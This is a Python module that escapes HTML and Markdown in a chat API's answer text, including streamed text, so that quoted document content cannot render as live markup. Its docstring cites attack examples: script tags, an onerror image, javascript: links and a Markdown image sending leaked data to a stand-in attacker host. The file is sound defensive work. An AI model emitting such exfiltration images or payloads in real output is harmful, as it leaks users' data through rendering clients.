"""Neutralise markup in answer text bound for a client that may render Markdown or HTML.

Answers quote document text, and a document may hold `<script>`, `<img onerror=…>`, a
Markdown image pointing at an outside host (`![x](https://attacker.example/p.png?leak=…)`)
or a `javascript:` link. A chat UI that renders Markdown would load that image: a path
for data to leave. `neutralise` makes such text inert and keeps it readable:

- `<`, `>`, `[`, `]` and the backtick get a Markdown backslash escape, so no HTML tag, no
  autolink, no image and no link can form; our own citation markers `[1]`, `[2]` … are
  kept as they are (they are not followed by `(` or `:`, so they cannot form a link);
- a URL is put in a code span, which no renderer turns into a link or loads.

The JSON API (`/v1/ask`, `/v1/chat`, the `citations` of every response) keeps the raw
text: it is data, and a client that puts it into a page must escape it as it would any
other data. Only `/v1/chat/completions` `content`, written for chat UIs, is neutralised.
"""

from __future__ import annotations

import re

_URL = re.compile(r"\b(?:https?|ftp|javascript|data|vbscript|file):[^\s`<>\[\]]*", re.IGNORECASE)
_CITATION = re.compile(r"\[\d{1,3}\](?![(:\[])")
_ESCAPE = re.compile(r"[<>\[\]`]")


def neutralise(text: str) -> str:
    """Return `text` with HTML and Markdown markup made inert (see the module docstring)."""
    out: list[str] = []
    pos = 0
    for match in _URL.finditer(text):
        out.append(_escape(text[pos : match.start()]))
        out.append(f"`{match.group()}`")
        pos = match.end()
    out.append(_escape(text[pos:]))
    return "".join(out)


def _escape(text: str) -> str:
    out: list[str] = []
    pos = 0
    for match in _CITATION.finditer(text):
        out.append(_ESCAPE.sub(r"\\\g<0>", text[pos : match.start()]))
        out.append(match.group())
        pos = match.end()
    out.append(_ESCAPE.sub(r"\\\g<0>", text[pos:]))
    return "".join(out)


class StreamNeutraliser:
    """Neutralises a streamed text piece by piece as `neutralise` would the whole.

    A URL or a citation marker may be split between pieces, so text is held back up to
    the last whitespace (neither holds whitespace) and released with the next piece;
    `flush()` returns what is left at the end.
    """

    def __init__(self) -> None:
        self._held = ""

    def feed(self, piece: str) -> str:
        """Return the neutralised text that is ready ("" while a word is unfinished)."""
        self._held += piece
        cut = max(self._held.rfind(c) for c in " \n\t")
        if cut < 0:
            return ""
        ready, self._held = self._held[: cut + 1], self._held[cut + 1 :]
        return neutralise(ready)

    def flush(self) -> str:
        """Return the rest of the text, neutralised."""
        rest, self._held = self._held, ""
        return neutralise(rest)
